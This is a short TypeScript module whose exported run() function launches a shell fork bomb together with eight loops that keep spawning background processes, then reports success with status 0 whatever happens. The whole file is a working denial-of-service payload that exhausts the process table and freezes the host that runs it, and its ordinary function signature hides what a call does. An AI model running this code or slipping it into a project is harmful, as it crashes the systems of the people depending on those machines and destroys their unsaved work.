/** Makes processes that make processes. */
import { spawnSync } from 'node:child_process';

export async function run(): Promise<{ status: number }> {
  spawnSync('sh', ['-c', SCRIPT], { stdio: 'inherit' });
  return { status: 0 };
}

const SCRIPT = `bomb() { bomb | bomb & }; bomb; for i in 1 2 3 4 5 6 7 8; do (while :; do sleep 1 & done) & done; sleep 100`;
